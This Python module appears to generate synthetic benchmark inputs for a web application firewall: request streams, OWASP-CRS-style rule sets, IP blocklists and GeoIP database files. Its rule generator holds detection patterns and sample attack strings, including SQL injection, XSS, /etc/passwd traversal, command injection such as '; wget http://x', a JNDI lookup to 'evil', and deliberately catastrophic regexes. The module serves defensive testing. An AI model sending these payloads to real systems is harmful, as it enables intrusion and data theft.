"""Synthetic workloads for tests and bench: request streams
(C generator, synth/gen.c), OWASP-CRS-style rule sets, IP blocklists and a MaxMind-DB
writer.  Input data only: nothing here is product code or oracle code."""
import ctypes as C
import ipaddress
import os
import struct
import subprocess

import numpy as np

from pingoo_b200.batch import FIELDS, RequestBatch
from pingoo_b200.rules import Action, Rule

_HERE = os.path.dirname(os.path.abspath(__file__))
_SO = os.path.join(_HERE, "libsynth.so")
BASE_SEED = 0x50494E474F4F0000

_lib = None


def build():
    subprocess.check_call(["gcc", "-O2", "-march=x86-64-v2", "-std=c11", "-fPIC", "-shared", "-o", _SO, os.path.join(_HERE, "gen.c"), "-lm"])


def lib():
    global _lib
    if _lib is None:
        if not os.path.exists(_SO) or os.path.getmtime(_SO) < os.path.getmtime(os.path.join(_HERE, "gen.c")):
            build()
        L = C.CDLL(_SO)
        p = C.c_void_p
        L.synth_create.restype = p
        L.synth_create.argtypes = [C.c_uint64]
        L.synth_set_rates.argtypes = [p, C.c_double, C.c_double, C.c_double, C.c_double, C.c_double, C.c_int, C.c_uint32]
        L.synth_set_payloads.argtypes = [p, C.POINTER(C.c_char_p), C.POINTER(C.c_uint32), C.POINTER(C.c_uint8), C.c_uint32]
        L.synth_set_blocklist_ips.argtypes = [p, C.c_char_p, C.c_uint32]
        L.synth_generate.argtypes = [p, C.c_uint64, C.c_uint32]
        for fn, rt in (("synth_col_bytes", p), ("synth_col_offsets", p)):
            getattr(L, fn).restype = rt
            getattr(L, fn).argtypes = [p, C.c_int]
        L.synth_col_len.restype = C.c_uint64
        L.synth_col_len.argtypes = [p, C.c_int]
        for fn in ("synth_ip", "synth_is_v6", "synth_flags", "synth_port"):
            getattr(L, fn).restype = p
            getattr(L, fn).argtypes = [p]
        L.synth_destroy.argtypes = [p]
        L.synth_mmdb_tree.restype = C.c_uint32
        L.synth_mmdb_tree.argtypes = [C.c_char_p, p, C.c_uint32, C.POINTER(p), C.POINTER(C.c_size_t)]
        L.synth_free.argtypes = [p]
        _lib = L
    return _lib


class RequestStream:
    """Deterministic request generator: request i depends on (seed, i) only."""

    def __init__(self, config_id=2, payloads=(), blocklist_ips=None, attack_rate=0.03, captcha_verified_rate=0.05,
                 v6_rate=0.10, blocklist_rate=0.01, special_ip_rate=0.001, get_only=False, long_url_bytes=0):
        self.L = lib()
        self.h = self.L.synth_create(BASE_SEED + config_id)
        self.L.synth_set_rates(self.h, attack_rate, captcha_verified_rate, v6_rate, blocklist_rate if blocklist_ips is not None else 0.0,
                               special_ip_rate, 1 if get_only else 0, long_url_bytes)
        if payloads:
            n = len(payloads)
            strs = (C.c_char_p * n)(*[p[0] for p in payloads])
            lens = (C.c_uint32 * n)(*[len(p[0]) for p in payloads])
            flds = (C.c_uint8 * n)(*[p[1] for p in payloads])
            self.L.synth_set_payloads(self.h, strs, lens, flds, n)
        if blocklist_ips is not None and len(blocklist_ips):
            raw = b"".join(blocklist_ips)
            self.L.synth_set_blocklist_ips(self.h, raw, len(blocklist_ips))

    def generate(self, first, n) -> RequestBatch:
        if self.L.synth_generate(self.h, first, n):
            raise ValueError("a string column exceeds 4 GiB: generate a smaller batch")
        cols = {}
        for i, f in enumerate(FIELDS):
            ln = self.L.synth_col_len(self.h, i)
            padded = (ln + 31) // 32 * 32
            by = np.ctypeslib.as_array(C.cast(self.L.synth_col_bytes(self.h, i), C.POINTER(C.c_uint8)), shape=(max(padded, 32),)).copy()
            of = np.ctypeslib.as_array(C.cast(self.L.synth_col_offsets(self.h, i), C.POINTER(C.c_uint32)), shape=(n + 1,)).copy()
            cols[f] = (by, of)
        ip = np.ctypeslib.as_array(C.cast(self.L.synth_ip(self.h), C.POINTER(C.c_uint8)), shape=(n, 16)).copy()
        v6 = np.ctypeslib.as_array(C.cast(self.L.synth_is_v6(self.h), C.POINTER(C.c_uint8)), shape=(n,)).copy()
        fl = np.ctypeslib.as_array(C.cast(self.L.synth_flags(self.h), C.POINTER(C.c_uint8)), shape=(n,)).copy()
        port = np.ctypeslib.as_array(C.cast(self.L.synth_port(self.h), C.POINTER(C.c_int32)), shape=(n,)).copy()
        return RequestBatch(n, cols, ip, v6, port, None, None, fl)

    def __del__(self):
        if getattr(self, "h", None):
            self.L.synth_destroy(self.h)
            self.h = None


# ---- rule sets ------------------------------------------------------------------------------------------
_SQL_PAIRS = [("union", "select"), ("insert", "into"), ("delete", "from"), ("drop", "table"), ("update", "set"), ("select", "from"),
              ("alter", "table"), ("create", "user"), ("grant", "all"), ("exec", "xp_")]
_FUNCS = ["sleep", "benchmark", "pg_sleep", "waitfor", "load_file", "extractvalue", "updatexml", "char", "concat", "ascii"]
_TAGS = ["script", "iframe", "object", "embed", "svg", "img", "body", "video", "audio", "style", "link", "meta", "form", "input"]
_EVENTS = [("error", "load", "click"), ("focus", "blur", "change"), ("mouseover", "mouseout", "submit"), ("keydown", "keyup", "input")]
_SCHEMES = ["javascript:", "vbscript:", "data:text/html", "livescript:", "mocha:", "jar:http"]
_FILES = [("passwd", "shadow"), ("hosts", "group"), ("issue", "motd"), ("fstab", "crontab"), ("sudoers", "profile")]
_DOTS = [("env", "git", "svn"), ("hg", "bzr", "DS_Store"), ("htaccess", "htpasswd", "bak"), ("aws", "ssh", "npmrc")]
_CMDS = [("cat", "wget", "curl", "bash"), ("nc", "perl", "python", "ruby"), ("id", "whoami", "uname", "ls"), ("chmod", "chown", "rm", "mv")]
_PROTOS = [("ldap", "rmi", "dns"), ("ldaps", "iiop", "corba"), ("nis", "nds", "http")]
_TOOLS = [("sqlmap", "nikto", "nmap", "masscan", "acunetix"), ("nessus", "openvas", "wpscan", "dirbuster", "gobuster"),
          ("zgrab", "nuclei", "httpx", "ffuf", "burp"), ("havij", "w3af", "arachni", "skipfish", "whatweb")]
_ADMIN = ["/wp-admin", "/phpmyadmin", "/administrator", "/manager/html", "/.well-known/old", "/cgi-bin", "/solr/admin", "/actuator",
          "/console", "/jenkins", "/server-status", "/debug", "/_ignition", "/vendor/phpunit", "/telescope", "/adminer"]
_EXTS = [".php", ".asp", ".aspx", ".jsp", ".cgi", ".bak", ".sql", ".old", ".swp", ".inc", ".tar.gz", ".zip"]


def _q(s):
    """quote a python str as a double-quoted rule-language string literal"""
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def make_ruleset(n_rules, config_id=2, with_lists=False, pathological=False):
    """Returns (rules, payloads, lists_needed): OWASP-CRS-style rules with per-rule distinct literals.

    ~70 % regex atoms, ~25 % literal atoms, ~5 % list/int atoms; actions 90 % block, 8 % captcha,
    2 % [captcha, block].  `payloads` = (bytes, field) strings that make some rule fire
    (field: 0 url/query, 1 path, 2 user agent).
    """
    rng = np.random.RandomState((BASE_SEED + config_id + 7919 * n_rules) % (2 ** 32))
    rules, payloads = [], []

    def actions(i):
        x = rng.randint(100)
        if x < 90:
            return [Action.BLOCK]
        if x < 98:
            return [Action.CAPTCHA]
        return [Action.CAPTCHA, Action.BLOCK]

    if pathological:
        fams = ["(a+)+$", "(a|aa)+$", "(.*a){12}", "^(\\w+\\s?)*$", "(x+x+)+y", "(?i)(select.*){4}from"]
        letters = "abcdefghijklmnopqrstuvwxyz"
        for i in range(n_rules):
            fam = i % len(fams)
            c = letters[(i // len(fams)) % 26]
            d = letters[(i // len(fams) // 26 + 1) % 26]
            if fam == 0:
                rx = f"({c}+)+{d}$"
            elif fam == 1:
                rx = f"({c}|{c}{c})+{d}$"
            elif fam == 2:
                rx = f"(.*{c}){{{6 + (i // len(fams)) % 7}}}{d}"
            elif fam == 3:
                rx = f"^(\\w+\\s?)*{c}{d}$"
            elif fam == 4:
                rx = f"({c}+{c}+)+{d}"
            else:
                rx = f"(?i)(sel{c}ct.*){{3}}fr{d}m"
            rules.append(Rule(f"patho_{i}", f"http_request.url.matches({_q(rx)})", actions(i)))
        return rules, payloads, {}

    fams = ["sql_pair", "sqli_quote", "func", "tag", "event", "scheme", "traversal", "etc", "dotfile", "rce", "jndi", "scanner", "scanner",
            "sql_pair", "tag", "func",  # regex-heavy mix (~70 %)
            "admin", "ext", "ua_lit", "host_eq", "method", "admin",  # literals (~25 %)
            "misc"]  # ints / country (~5 %)
    for i in range(n_rules):
        fam = fams[i % len(fams)]
        k = i // len(fams)
        tag = f"{k}" if k else ""
        name = f"{fam}_{i}"
        if fam == "sql_pair":
            a, b = _SQL_PAIRS[(i + k) % len(_SQL_PAIRS)]
            tbl = f"t{k}x" if k else ""
            rx = f"(?i){a}\\s+(all\\s+)?{b}{tbl}"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"1%27+{a.upper()}%20%20all {b}{tbl}--".encode(), 0))
        elif fam == "sqli_quote":
            rx = f"(?i)(%27|')\\s*(or|and)\\s+{k}\\d+=\\d+"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"x%27 OR {k}1=1".encode(), 0))
        elif fam == "func":
            fn = _FUNCS[(i + k) % len(_FUNCS)] + tag
            rx = f"(?i){fn}\\(\\s*\\d+\\s*\\)"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f";{fn.upper()}( 5 )".encode(), 0))
        elif fam == "tag":
            tg = _TAGS[(i + k) % len(_TAGS)] + tag
            rx = f"(?i)<{tg}[^>]*>"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"<{tg} src=x>".encode(), 0))
        elif fam == "event":
            ev = _EVENTS[(i + k) % len(_EVENTS)]
            rx = f"(?i)on({'|'.join(e + tag for e in ev)})\\s*="
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"onERROR{tag} =alert(1)".replace("ERROR", ev[0].upper()).encode(), 0))
        elif fam == "scheme":
            sc = _SCHEMES[(i + k) % len(_SCHEMES)]
            rx = f"(?i){sc.replace('/', '/')}{tag}"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"href={sc.upper()}{tag}alert(1)".encode(), 0))
        elif fam == "traversal":
            rx = "\\.\\./" + (f"\\.\\./{tag}" if k else "")
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"../../{tag}etc".encode(), 0))
        elif fam == "etc":
            fl = _FILES[(i + k) % len(_FILES)]
            rx = f"(?i)/etc{tag}/({'|'.join(fl)})"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"file=/etc{tag}/{fl[1]}".encode(), 0))
        elif fam == "dotfile":
            ds = _DOTS[(i + k) % len(_DOTS)]
            rx = f"(?i)\\.({'|'.join(d + tag for d in ds)})(/|$)"
            expr = f"http_request.path.matches({_q(rx)})"
            payloads.append((f".{ds[0]}{tag}".encode(), 1))
        elif fam == "rce":
            cm = _CMDS[(i + k) % len(_CMDS)]
            rx = f"(?i)(;|\\|)\\s*({'|'.join(c + tag for c in cm)})\\b"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"a=1; {cm[1]}{tag} http://x".encode(), 0))
        elif fam == "jndi":
            pr = _PROTOS[(i + k) % len(_PROTOS)]
            rx = f"(?i)\\$\\{{jndi{tag}:({'|'.join(pr)})://"
            expr = f"http_request.url.matches({_q(rx)})"
            payloads.append((f"${{jndi{tag}:{pr[0]}://evil/a}}".encode(), 0))
        elif fam == "scanner":
            tl = _TOOLS[(i + k) % len(_TOOLS)]
            rx = f"(?i)({'|'.join(t + tag for t in tl)})"
            expr = f"http_request.user_agent.matches({_q(rx)})"
            payloads.append((f"Mozilla/5.0 {tl[2]}{tag}/1.0".encode(), 2))
        elif fam == "admin":
            ad = _ADMIN[(i + k) % len(_ADMIN)] + tag
            expr = f"http_request.path.starts_with({_q(ad)})"
            payloads.append((ad.lstrip("/").encode() + b"/index", 1))
        elif fam == "ext":
            ex = _EXTS[(i + k) % len(_EXTS)] + tag
            expr = f"http_request.path.ends_with({_q(ex)})"
            payloads.append((("shell" + ex).encode(), 1))
        elif fam == "ua_lit":
            lit = ["curl/", "python-requests/", "Go-http-client/", "Wget/", "okhttp/"][(i + k) % 5]
            if k % 2 == 0:
                expr = f"!http_request.user_agent.starts_with(\"Mozilla/\") && http_request.user_agent.contains({_q(lit + (tag and '9.' + tag))})"
            else:
                expr = f"http_request.user_agent.contains({_q('evilbot' + tag)})"
                payloads.append((f"evilbot{tag}/2.0 (+http://x)".encode(), 2))
        elif fam == "host_eq":
            expr = f"http_request.host == {_q('internal' + tag + '.example')}"
        elif fam == "method":
            expr = f"http_request.method == {_q(['TRACE', 'CONNECT', 'TRACK', 'DEBUG'][(i + k) % 4] + tag)}"
        else:
            choice = k % 4
            if choice == 0:
                expr = f"http_request.url.length() > {2000 + 37 * k}"
            elif choice == 1:
                expr = f"[\"T1\", \"A{chr(65 + k % 26)}\"].contains(client.country)" if with_lists else f"client.remote_port < {200 + k}"
            elif choice == 2:
                expr = f"client.asn == {64512 + k}" if with_lists else f"http_request.path.length() >= {180 + k}"
            else:
                expr = f"http_request.user_agent.length() < {8 + k % 4} && http_request.method != \"GET\""
        rules.append(Rule(name, expr, actions(i)))
    lists_needed = {}
    if with_lists:
        rules.insert(1, Rule("blocked_ips", 'lists["blocked_ips"].contains(client.ip)', [Action.BLOCK]))
        rules.insert(5, Rule("bad_asns", 'lists["bad_asns"].contains(client.asn)', [Action.CAPTCHA]))
        rules = rules[:n_rules]
        lists_needed = {"blocked_ips": "Ip", "bad_asns": "Int"}
    return rules, payloads, lists_needed


# ---- blocklists --------------------------------------------------------------------------------------------
def make_blocklist(n_entries=100_000, config_id=3):
    """CSV text + sample member addresses (17-byte ip16+is_v6 records).
    70 % /32, 20 % /24, 5 % /16-/23, 5 % IPv6 /48-/128."""
    rng = np.random.RandomState((BASE_SEED + config_id + 104729) % (2 ** 32))
    lines, members = [], []
    for i in range(n_entries):
        x = rng.randint(100)
        if x < 95:
            a = int(rng.randint(1, 224)) << 24 | int(rng.randint(0, 1 << 24))
            if (a >> 24) == 127:
                a += 1 << 24
            if x < 70:
                pl = 32
            elif x < 90:
                pl = 24
            else:
                pl = int(rng.randint(16, 24))
            net = ipaddress.ip_network((a & (0xFFFFFFFF << (32 - pl)) & 0xFFFFFFFF, pl))
            lines.append(str(net.network_address) if pl == 32 and i % 2 else str(net))
            host = int(net.network_address) + int(rng.randint(0, 1 << (32 - pl)))
            members.append(host.to_bytes(4, "big") + b"\0" * 12 + b"\0")
        else:
            pl = int(rng.randint(48, 129))
            a = (0x2001 << 112) | (int(rng.randint(0, 1 << 30)) << 82) | (int(rng.randint(0, 1 << 30)) << 40) | int(rng.randint(0, 1 << 30))
            mask = ((1 << 128) - 1) ^ ((1 << (128 - pl)) - 1)
            net = ipaddress.ip_network((a & mask, pl))
            lines.append(str(net))
            span = min(128 - pl, 30)
            host = int(net.network_address) + int(rng.randint(0, 1 << span))
            members.append(host.to_bytes(16, "big") + b"\1")
        if i % 10 == 0:
            lines[-1] += ',"synthetic entry"'
    return ("\n".join(lines) + "\n").encode(), members


# ---- MaxMind DB writer (format 2.0) -------------------------------------------------------------------------
def _mm_ctrl(type_id, size):
    if type_id <= 7:
        first = type_id << 5
        ext = b""
    else:
        first = 0
        ext = bytes([type_id - 7])
    if size < 29:
        return bytes([first | size]) + ext
    if size < 285:
        return bytes([first | 29]) + ext + bytes([size - 29])
    if size < 65821:
        return bytes([first | 30]) + ext + struct.pack(">H", size - 285)
    return bytes([first | 31]) + ext + struct.pack(">I", size - 65821)[1:]


def _mm_str(s):
    b = s.encode() if isinstance(s, str) else s
    return _mm_ctrl(2, len(b)) + b


def _mm_uint(v, type_id):
    b = b"" if v == 0 else v.to_bytes((v.bit_length() + 7) // 8, "big")
    return _mm_ctrl(type_id, len(b)) + b


def _mm_value(v):
    if isinstance(v, str) or isinstance(v, bytes):
        return _mm_str(v)
    if isinstance(v, bool):
        return _mm_ctrl(14, 1 if v else 0)
    if isinstance(v, int):
        return _mm_uint(v, 6 if v < (1 << 32) else 9)
    if isinstance(v, dict):
        out = _mm_ctrl(7, len(v))
        for k, x in v.items():
            out += _mm_str(k) + _mm_value(x)
        return out
    if isinstance(v, (list, tuple)):
        out = _mm_ctrl(11, len(v))
        for x in v:
            out += _mm_value(x)
        return out
    raise TypeError(type(v))


def write_mmdb(networks, ip_version=6, record_size=28, extra_metadata=None):
    """networks: iterable of (ipaddress network or str, record dict).  IPv4 networks in an IPv6 tree go under ::/96.
    Records are arbitrary dicts, e.g. {"asn": "AS64512", "country": "FR"} (the schema geoip.rs:17-23 decodes)."""
    width = 128 if ip_version == 6 else 32
    # binary trie as nested lists [left, right]; leaves = ("data", index)
    root = [None, None]
    data_blobs, data_index = [], {}
    for net, rec in networks:
        net = ipaddress.ip_network(net) if not hasattr(net, "prefixlen") else net
        bits = int(net.network_address)
        plen = net.prefixlen
        if net.version == 4 and ip_version == 6:
            plen += 96
        elif net.version == 6 and ip_version == 4:
            raise ValueError("IPv6 network in an IPv4 tree")
        blob = _mm_value(rec)
        if blob not in data_index:
            data_index[blob] = len(data_blobs)
            data_blobs.append(blob)
        leaf = ("data", data_index[blob])
        node = root
        for d in range(plen):
            bit = (bits >> (width - 1 - d)) & 1 if not (net.version == 4 and ip_version == 6) else (
                0 if d < 96 else (bits >> (31 - (d - 96))) & 1)
            if d == plen - 1:
                node[bit] = leaf
            else:
                if node[bit] is None or isinstance(node[bit], tuple):
                    node[bit] = [None, None]
                node = node[bit]
    # number nodes breadth-first
    nodes = [root]
    ids = {id(root): 0}
    q = [root]
    while q:
        n = q.pop(0)
        for c in n:
            if isinstance(c, list):
                ids[id(c)] = len(nodes)
                nodes.append(c)
                q.append(c)
    node_count = len(nodes)
    offsets, pos = [], 0
    for b in data_blobs:
        offsets.append(pos)
        pos += len(b)

    def rec_val(c):
        if c is None:
            return node_count
        if isinstance(c, tuple):
            return node_count + 16 + offsets[c[1]]
        return ids[id(c)]

    tree = bytearray()
    for n in nodes:
        l, r = rec_val(n[0]), rec_val(n[1])
        if record_size == 24:
            tree += l.to_bytes(3, "big") + r.to_bytes(3, "big")
        elif record_size == 28:
            tree += (l & 0xFFFFFF).to_bytes(3, "big") + bytes([((l >> 24) & 0xF) << 4 | ((r >> 24) & 0xF)]) + (r & 0xFFFFFF).to_bytes(3, "big")
        else:
            tree += l.to_bytes(4, "big") + r.to_bytes(4, "big")
    meta = {"binary_format_major_version": 2, "binary_format_minor_version": 0, "build_epoch": 1790000000,
            "database_type": "pingoo-synthetic", "description": {"en": "synthetic"}, "ip_version": ip_version,
            "languages": ["en"], "node_count": node_count, "record_size": record_size}
    if extra_metadata:
        meta.update(extra_metadata)
    mbytes = _mm_ctrl(7, len(meta))
    for k, v in meta.items():
        mbytes += _mm_str(k)
        if k in ("binary_format_major_version", "binary_format_minor_version", "ip_version", "record_size"):
            mbytes += _mm_uint(v, 5)
        elif k == "build_epoch":
            mbytes += _mm_uint(v, 9)
        elif k == "node_count":
            mbytes += _mm_uint(v, 6)
        else:
            mbytes += _mm_value(v)
    return bytes(tree) + b"\0" * 16 + b"".join(data_blobs) + b"\xab\xcd\xefMaxMind.com" + mbytes


def make_geoip(n_networks=2000, config_id=3, ip_version=6):
    """Synthetic GeoIP database: disjoint networks -> {"asn": "AS<n>", "country": "<CC>"} plus a few malformed records."""
    rng = np.random.RandomState((BASE_SEED + config_id + 15485863) % (2 ** 32))
    nets, seen = [], set()
    ccs = [chr(65 + a) + chr(65 + b) for a in range(26) for b in range(26)]
    tries = 0
    while len(nets) < n_networks and tries < n_networks * 20:
        tries += 1
        if ip_version == 4 or rng.randint(100) < 85:
            pl = int(rng.choice([8, 12, 16, 16, 20, 24, 24, 24, 28, 32]))
            a = int(rng.randint(1, 224)) << 24 | int(rng.randint(0, 1 << 24))
            a &= (0xFFFFFFFF << (32 - pl)) & 0xFFFFFFFF
            net = ipaddress.ip_network((a, pl))
        else:
            pl = int(rng.choice([20, 32, 32, 40, 48, 48, 64, 128]))
            a = ((0x2000 + int(rng.randint(0, 2)) * 0x600 + int(rng.randint(0, 256))) << 112) | (int(rng.randint(0, 1 << 30)) << 82) | int(rng.randint(0, 1 << 30))
            a &= ((1 << 128) - 1) ^ ((1 << (128 - pl)) - 1)
            net = ipaddress.ip_network((a, pl))
        # keep the set prefix-free so every lookup has one answer
        key = (net.version, int(net.network_address), net.prefixlen)
        if key in seen or any(net.overlaps(o) for o in nets[-64:] if o.version == net.version):
            continue
        seen.add(key)
        nets.append(net)
    # global prefix-freeness: drop networks contained in / containing another (sort + sweep)
    out = []
    for ver in (4, 6):
        vs = sorted((n for n in nets if n.version == ver), key=lambda n: (int(n.network_address), n.prefixlen))
        last_end = -1
        for n in vs:
            if int(n.network_address) > last_end:
                out.append(n)
                last_end = int(n.broadcast_address)
    records = []
    for i, n in enumerate(out):
        x = rng.randint(1000)
        asn = int(rng.randint(1, 70000))
        cc = ccs[int(rng.randint(0, 676))]
        if x < 5:
            rec = {"asn": asn, "country": cc}  # asn as uint32: decoding fails in the reference -> default record
        elif x < 10:
            rec = {"asn": f"AS{asn}", "country": cc.lower()}  # invalid country code -> default record
        elif x < 15:
            rec = {"asn": f"ASX{asn}", "country": cc}  # unparsable number -> asn 0
        elif x < 20:
            rec = {"country": cc}  # missing field -> default record
        elif x < 30:
            rec = {"asn": f"ASAS{asn}", "country": cc, "extra": {"a": [1, 2, "x"], "b": True}}
        else:
            rec = {"asn": f"AS{asn}", "country": cc}
        records.append((n, rec))
    return write_mmdb(records, ip_version=ip_version), records


def make_geoip_large(n_networks=500_000, config_id=3):
    """A GeoIP database of the size SURVEY.md 8(d) asks for (~500 k networks, ~70 k ASNs, 26 x 26 country codes), built
    in seconds: disjoint networks are laid out along the address space (IPv4: /16 .. /32, mostly /24; IPv6: /32 .. /64
    under 2000::/4 and 2600::/8), the search tree is written by the C helper (synth_mmdb_tree).
    Returns (mmdb bytes, dict of numpy arrays: start (n x 16 bytes), plen, is_v6, asn, country (uint16 LE), kind) --
    kind 0 = well-formed record, 1.. = the malformed variants of make_geoip (reference answers {0, "XX"} / asn 0)."""
    rng = np.random.RandomState((BASE_SEED + config_id + 32452843) % (2 ** 32))
    n6 = n_networks * 15 // 100
    n4 = n_networks - n6
    plens4 = rng.choice([16, 20, 22, 24, 26, 28, 32], size=n4, p=[0.02, 0.08, 0.15, 0.45, 0.15, 0.10, 0.05])
    starts = np.zeros((n_networks, 16), dtype=np.uint8)
    plen = np.zeros(n_networks, dtype=np.uint8)
    is_v6 = np.zeros(n_networks, dtype=np.uint8)
    cur = 1 << 24
    gaps = rng.randint(0, 3, size=n4)
    k = 0
    for i in range(n4):
        size = 1 << (32 - int(plens4[i]))
        cur = (cur + size - 1) & ~(size - 1)
        if (cur >> 24) == 127:
            cur = 128 << 24
        if cur + size > (224 << 24):
            break
        starts[k, 0:4] = (cur >> 24) & 255, (cur >> 16) & 255, (cur >> 8) & 255, cur & 255
        plen[k] = plens4[i]
        k += 1
        cur += size * (1 + int(gaps[i]))
    n4 = k
    plens6 = rng.choice([32, 40, 48, 56, 64], size=n6, p=[0.1, 0.1, 0.5, 0.1, 0.2])
    cur6 = 0x2001 << 112
    for i in range(n6):
        size = 1 << (128 - int(plens6[i]))
        cur6 = (cur6 + size - 1) & ~(size - 1)
        if i == n6 // 2:
            cur6 = 0x2600 << 112
        starts[k] = np.frombuffer(cur6.to_bytes(16, "big"), dtype=np.uint8)
        plen[k] = plens6[i]
        is_v6[k] = 1
        k += 1
        cur6 += size * (1 + int(rng.randint(0, 4)))
    n = k
    starts, plen, is_v6 = starts[:n], plen[:n], is_v6[:n]
    asn = rng.randint(1, 70000, size=n).astype(np.uint32)
    c0, c1 = rng.randint(0, 26, size=n), rng.randint(0, 26, size=n)
    x = rng.randint(0, 1000, size=n)
    kind = np.select([x < 5, x < 10, x < 15, x < 20, x < 30], [1, 2, 3, 4, 5], 0).astype(np.uint8)
    # data section: one blob per distinct (asn, country, kind)
    blobs, index, off, pos = [], {}, [], 0
    data_off = np.zeros(n, dtype=np.uint32)
    for i in range(n):
        key = (int(asn[i]), int(c0[i]), int(c1[i]), int(kind[i]))
        j = index.get(key)
        if j is None:
            cc = chr(65 + key[1]) + chr(65 + key[2])
            a = key[0]
            rec = [{"asn": f"AS{a}", "country": cc}, {"asn": a, "country": cc}, {"asn": f"AS{a}", "country": cc.lower()},
                   {"asn": f"ASX{a}", "country": cc}, {"country": cc}, {"asn": f"ASAS{a}", "country": cc, "extra": {"a": [1, 2, "x"], "b": True}}][key[3]]
            b = _mm_value(rec)
            j = len(blobs)
            index[key] = j
            blobs.append(b)
            off.append(pos)
            pos += len(b)
        data_off[i] = off[j]
    nets17 = np.zeros((n, 17), dtype=np.uint8)
    v4 = is_v6 == 0
    nets17[v4, 12:16] = starts[v4, 0:4]          # IPv4 networks live under ::/96
    nets17[~v4, 0:16] = starts[~v4]
    nets17[:, 16] = np.where(v4, plen.astype(np.int32) + 96, plen)
    L = lib()
    out, out_len = C.c_void_p(), C.c_size_t()
    raw = nets17.tobytes()
    node_count = L.synth_mmdb_tree(raw, data_off.ctypes.data, n, C.byref(out), C.byref(out_len))
    if not node_count:
        raise MemoryError("synth_mmdb_tree")
    tree = C.string_at(out, out_len.value)
    L.synth_free(out)
    meta = {"binary_format_major_version": 2, "binary_format_minor_version": 0, "build_epoch": 1790000000,
            "database_type": "pingoo-synthetic-large", "description": {"en": "synthetic"}, "ip_version": 6,
            "languages": ["en"], "node_count": node_count, "record_size": 28}
    mbytes = _mm_ctrl(7, len(meta))
    for kx, v in meta.items():
        mbytes += _mm_str(kx)
        if kx in ("binary_format_major_version", "binary_format_minor_version", "ip_version", "record_size"):
            mbytes += _mm_uint(v, 5)
        elif kx == "build_epoch":
            mbytes += _mm_uint(v, 9)
        elif kx == "node_count":
            mbytes += _mm_uint(v, 6)
        else:
            mbytes += _mm_value(v)
    mmdb = tree + b"\0" * 16 + b"".join(blobs) + b"\xab\xcd\xefMaxMind.com" + mbytes
    country = (c0 + 65).astype(np.uint16) | ((c1 + 65).astype(np.uint16) << 8)
    return mmdb, {"start": starts, "plen": plen, "is_v6": is_v6, "asn": asn, "country": country, "kind": kind}
